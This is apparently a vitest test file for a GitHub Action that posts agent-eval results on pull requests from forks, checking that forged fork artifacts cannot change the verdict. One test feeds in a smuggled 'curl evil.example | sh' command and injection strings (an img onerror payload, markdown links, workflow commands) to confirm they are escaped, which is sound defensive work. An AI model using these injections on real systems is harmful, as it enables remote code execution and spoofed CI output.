import { existsSync } from 'node:fs';
import { symlink } from 'node:fs/promises';
import { join } from 'node:path';
import { beforeAll, describe, expect } from 'vitest';
import { readable } from '#test/support/markdown.ts';
import { newFolder } from '#test/support/new-folder.ts';
import { it, type RunOptions, type Scene, stageScene } from '#test/support/scene.ts';
import { scriptedSuite, TRACE } from '#test/support/scripted-suite.ts';
import {
  addStoredRun,
  artifactFiles,
  RESULTS_ARTIFACT,
  resultsArchive,
  storedResults,
} from '#test/support/stored-artifact.ts';
import { saying } from '#test/support/worded.ts';
import { DEPENDABOT, workflowRunEvent } from '#test/testing/github/payloads.ts';
import type { ActionResult } from '#test/testing/github/runner.ts';
import { type FakePullRequest, type FakeRun, type Permissions, READ_ONLY } from '#test/testing/github/state.ts';
import { addArtifact, addRun, forkOf } from '#test/testing/github/state-builders.ts';
import type { WorkspaceFiles } from '#test/testing/github/workspace.ts';

/** What a workflow file gives the job that reports. */
const WRITE = { contents: 'read', actions: 'read', pull_requests: 'write' } as const;
const ACCEPTS = 'agent-eval-accepts.yml';
const REPORT_WORKFLOW = '.github/workflows/agent-eval-report.yml';

const SUITE = scriptedSuite({ one: {}, two: {} });
const BROKEN = scriptedSuite({ one: { step: { answer: { output: 'no' } } }, two: {} });

/** A job that reports has nothing checked out. */
let nothing: string;
/** Texts of results.json as runs of main, of a fork that broke it and of one that did not have stored them. */
let stored: { readonly main: string; readonly broken: string; readonly unchanged: string };

beforeAll(async () => {
  nothing = newFolder('report');
  const scene = await stageScene(SUITE);
  await scene.storeMain();
  const main = artifactFiles(scene.fake.state)['results.json'] ?? '';
  await runOfFork(scene, BROKEN);
  const broken = artifactFiles(scene.fake.state)['results.json'] ?? '';
  const { run, ...results } = JSON.parse(main);
  stored = { main, broken, unchanged: JSON.stringify({ ...results, run: { ...run, side: 'candidate' } }) };
  await scene.close();
});

it('a pull request of a fork is commented by the run that reports: judged by our gate, marked as not verified, deciding nothing', async (openScene) => {
  const scene = await openScene(SUITE);
  const main = await scene.storeMain();
  const fork = await runOfFork(scene, BROKEN);
  expect(fork).toExit(1);
  expect(scene.fake.state.comments).toEqual([]);

  const result = await report(scene, fork.run);
  expect(result).toExit(0);
  const [comment] = scene.fake.state.comments;
  expect(comment).toMatchObject({ issueNumber: 1, user: { login: 'github-actions[bot]' } });
  expect(comment?.body).toContain('Not verified: results of a run of a fork');
  expect(comment?.body).toMatch(/❌ Agent eval failed: /);
  expect(comment?.body).toContain(`run=${fork.run.id} attempt=1 sha=${fork.run.headSha}`);
  expect(comment?.body).toContain(main.headSha.slice(0, 7));
  expect(comment?.body).toContain('<code>one</code>');
  expect(result.summary).toContain('Not verified');
  expect(result.outputs['comment-url']).toContain(String(comment?.id));
  expect(result.outputs).toMatchObject({ verdict: '', passed: '', 'results-path': '' });
  expect(result.commands.annotations).toEqual([]);
  expect(existsSync(join(nothing, TRACE))).toBe(false);
});

it('the one comment is kept up to date; the report on an older run never overwrites it', async (openScene) => {
  const scene = await openScene(SUITE);
  const first = await pullOfFork(scene, stored.broken);
  await report(scene, first);
  const [comment] = scene.fake.state.comments;
  expect(comment?.body).toMatch(/❌ Agent eval failed/);
  const newer = addStored(scene, first.headSha, stored.unchanged);
  await report(scene, newer);
  await report(scene, newer, { github: { runAttempt: 2 } });
  expect(comment?.body).toMatch(/✅ Agent eval passed/);

  const late = await report(scene, first);
  expect(late).toExit(0);
  expect(comment?.body).toMatch(/✅ Agent eval passed/);
  expect(scene.fake.state.comments).toHaveLength(1);
});

it('what a fork can not reach was not run, which its results alone never decide', async (openScene) => {
  const suite = scriptedSuite(
    { one: {}, two: {} },
    {
      agent: { command: ['node', 'agent.mjs'], needs: ['SOME_API_KEY'] },
      covers: ['*.mjs', 'script.json'],
      ignores: ['docs/**'],
    },
  );
  const scene = await openScene({ ...suite, 'docs/a.md': 'words' });
  await scene.pushMain({ env: { SOME_API_KEY: 'k-1234567890' }, inputs: { 'pass-env': 'SOME_API_KEY' } });
  const run = await runOfFork(scene, { 'docs/a.md': 'better words' });
  expect(run).toDecide('pass');
  await report(scene, run.run);
  expect(readable(scene.fake.state.comments[0]?.body ?? '')).toContain(
    'Agent eval passed: nothing that the suite covers has changed',
  );

  const forged = storedResults(scene.fake.state);
  const other = await pullOfFork(scene, JSON.stringify(forged), { 'agent.mjs': 'broken' });
  await report(scene, other);
  expect(readable(scene.fake.state.comments[0]?.body ?? '')).not.toContain('Agent eval passed');
});

it('Dependabot has a read-only token in its runs, so it is reported too', async (openScene) => {
  const scene = await openScene(SUITE);
  scene.fake.state.token.permissions = READ_ONLY;
  const run = await scene.runPull({}, { pull: { user: DEPENDABOT } });
  expect(scene.fake.state.comments).toEqual([]);
  await report(scene, run.run);
  expect(scene.fake.state.comments[0]?.body).toContain('Not verified: results of a run of Dependabot');
});

const floor = (min: number) => ({ gate: { method: 'threshold', pass_rate: { min, max_drop: 1 } } });

it('the policy is that of the base commit, whatever the fork writes into its config and its results', async (openScene) => {
  const scene = await openScene(scriptedSuite({ one: {}, two: {} }, floor(0.9)));
  const results = JSON.parse(stored.broken);
  results.policy = { hash: 'x', effective: { method: 'threshold', pass_rate: { min: 0 } } };
  const lax = scriptedSuite({ one: {}, two: {} }, floor(0.1));
  await report(scene, await pullOfFork(scene, JSON.stringify(results), lax));
  const body = scene.fake.state.comments[0]?.body ?? '';
  expect(body).toMatch(/❌ Agent eval failed/);
  expect(body).toContain('90 %');
  expect(readable(body), 'what the fork changes of it is listed').toMatch(/pass_rate\.min.*0\.9 on main, 0\.1 here/);
});

it('a failure is accepted by a file of the fork, and never by a link or a file behind one', async (openScene) => {
  const accepts = JSON.stringify([{ case: 'one', reason: 'it will be mended', until: '2099-01-01' }]);
  const headOf = async (place: string) => {
    const scene = await openScene(SUITE);
    const { repository } = scene;
    if (place !== ACCEPTS) {
      await repository.branch('feature', 'main');
      await symlink(place, join(repository.path, ACCEPTS));
      await repository.git('add', ACCEPTS);
      await repository.git('commit', '-qm', 'a link');
    }
    await report(scene, await pullOfFork(scene, stored.broken, { [place]: accepts }));
    return readable(scene.fake.state.comments[0]?.body ?? '');
  };
  const own = await headOf(ACCEPTS);
  expect(own).toContain('it will be mended');
  const linked = await headOf('later.yml');
  expect(linked).toContain(`${ACCEPTS} is or lies behind a symbolic link`);
  expect(linked).not.toMatch(/it will be mended|Agent eval passed/);
});

it('a policy of the base commit that can not be read leaves the results open', async (openScene) => {
  const scene = await openScene({ ...SUITE, 'agent-eval.yml': 'version: 1\ngate: {confidence: 7}\n' });
  await report(scene, await pullOfFork(scene, stored.unchanged));
  expect(scene.fake.state.comments[0]?.body).toMatch(
    /❔ Agent eval can't tell \(does not block\): the gate of the base branch can't be used: agent-eval\.yml/,
  );
});

describe('what a run of a fork has uploaded', () => {
  const HOSTILE =
    'x](https://evil.example/?q=1) <img src=x onerror=1> @octo-org/owners fixes #1 ::error::gone ##[add-mask]a';

  it('is data: its names and texts are escaped, its own comment, commands and verdict are never used', async (openScene) => {
    const scene = await openScene(SUITE);
    const forged = JSON.parse(stored.broken);
    forged.config.path = 'agent-eval.yml; curl evil.example | sh';
    forged.verdict = 'pass';
    for (const record of forged.cases) {
      record.name = HOSTILE;
      record.tags = [HOSTILE.slice(0, 60)];
      for (const trial of record.trials)
        for (const check of trial.checks) Object.assign(check, { fact: saying(HOSTILE), name: HOSTILE.slice(0, 40) });
    }
    const result = await report(scene, await pullOfFork(scene, JSON.stringify(forged)));
    expect(result).toExit(0);
    for (const text of [scene.fake.state.comments[0]?.body ?? '', result.summary]) {
      expect(text).toMatch(/❌ Agent eval failed/);
      expect(text).not.toMatch(/<img|\]\(https:\/\/evil|@octo-org|fixes #1|curl/);
    }
    expect(result.commands.annotations).toEqual([]);
    expect(result.envFile).toEqual({});
  });

  it('is treated as none, and named, when it is not what it says', async (openScene) => {
    const scene = await openScene(SUITE);
    const run = await pullOfFork(scene, stored.unchanged);
    const { run: facts, ...results } = JSON.parse(stored.unchanged);
    const text = JSON.stringify({ ...results, run: { ...facts, id: '77' } });
    addArtifact(scene.fake.state, { runId: run.id, name: RESULTS_ARTIFACT, content: resultsArchive(text) });
    const result = await report(scene, run);
    expect(result).toExit(0);
    expect(result.commands.annotations).toEqual([
      expect.objectContaining({ level: 'warning', message: expect.stringContaining('says it belongs to another run') }),
    ]);
    expect(result.summary).toMatch(/Agent eval: no results/);
    expect(scene.fake.state.comments).toEqual([]);
  });
});

function fork(scene: Scene): { readonly headRepository: FakePullRequest['head']['repository'] } {
  return { headRepository: forkOf(scene.fake.state.repository) };
}

/** Runs pull request 1 as GitHub does for a fork: with a token that only reads. */
async function runOfFork(scene: Scene, files: WorkspaceFiles): Promise<ActionResult> {
  scene.fake.state.token.permissions = READ_ONLY;
  return scene.runPull(files, { ...fork(scene), inputs: { confirm: 'never' } });
}

/** Pull request 1 of a fork, whose run has uploaded these results; main has a baseline. */
async function pullOfFork(
  scene: Scene,
  results: string,
  files: WorkspaceFiles = { 'README.md': 'words' },
): Promise<FakeRun> {
  const { state } = scene.fake;
  addStoredRun(state, stored.main, await scene.repository.head());
  const { pull } = await scene.openPull(files, fork(scene));
  return addStored(scene, pull.head.sha, results);
}

/** A finished run of the fork; the results tell of it. */
function addStored(scene: Scene, headSha: string, text: string): FakeRun {
  const { state } = scene.fake;
  const run = addRun(state, { headSha, event: 'pull_request', headBranch: 'feature', ...fork(scene) });
  const results = JSON.parse(text);
  Object.assign(results.run, { id: String(run.id) });
  Object.assign(results.commit, { head_sha: headSha });
  addArtifact(state, { runId: run.id, name: RESULTS_ARTIFACT, content: resultsArchive(JSON.stringify(results)) });
  return run;
}

/** Runs the job that reports: on the default branch, by its own workflow, with nothing checked out. */
async function report(
  scene: Scene,
  of: FakeRun,
  options: RunOptions = {},
  permissions: Permissions = WRITE,
): Promise<ActionResult> {
  const { state } = scene.fake;
  state.token.permissions = permissions;
  return scene.run(workflowRunEvent(state, of, scene.repository.main()), {
    workspace: nothing,
    ...options,
    inputs: { mode: 'report', ...options.inputs },
    github: { workflowPath: REPORT_WORKFLOW, ...options.github },
  });
}

it('without the permission to comment the report is a warning that names it, and nothing is red', async (openScene) => {
  const scene = await openScene(SUITE);
  const run = await pullOfFork(scene, stored.unchanged);
  const result = await report(scene, run, {}, READ_ONLY);
  expect(result).toExit(0);
  expect(result.commands.annotations).toEqual([
    expect.objectContaining({ level: 'warning', message: expect.stringContaining('Add "pull-requests: write"') }),
  ]);
});
